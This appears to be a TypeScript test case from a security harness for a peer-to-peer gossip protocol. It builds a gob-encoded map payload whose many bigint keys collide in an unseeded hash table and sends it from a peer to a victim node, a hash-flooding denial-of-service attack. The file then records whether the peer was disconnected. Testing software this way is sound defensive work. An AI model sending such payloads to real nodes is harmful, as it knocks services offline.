import { encodeGossip, Tag } from "../../../src/wire/index.ts";
import { defineAttack } from "../attack.ts";
import { gobBigUint, gobInt, gobMessage, gobType, gobUint, mapType } from "../bytes/gob.ts";
import { collidingBigIntegers } from "../bytes/integer-hash.ts";

export default defineAttack<number>({
  title: "a payload map[uint64]int whose keys collide in a Map of bigints, whose hash has no seed",
  group: "peer",
  victim: { flags: ["--counter=count"] },
  variants: { "10,000 keys": 10_000, "100,000 keys": 100_000 },
  async run(field, count) {
    const entries = Buffer.concat(collidingBigIntegers(count).flatMap((key) => [gobBigUint(key), gobInt(1)]));
    const payload = Buffer.concat([
      mapType(65, gobType.uint, gobType.int),
      gobMessage(gobInt(65), Buffer.of(0), gobUint(count), entries),
    ]);
    await field.begin();
    const peer = await field.join();
    peer.send(Tag.gossip, encodeGossip("count", peer.name, payload));
    await field.sleep(500);
    field.notes.disconnected = peer.broken?.message;
  },
});
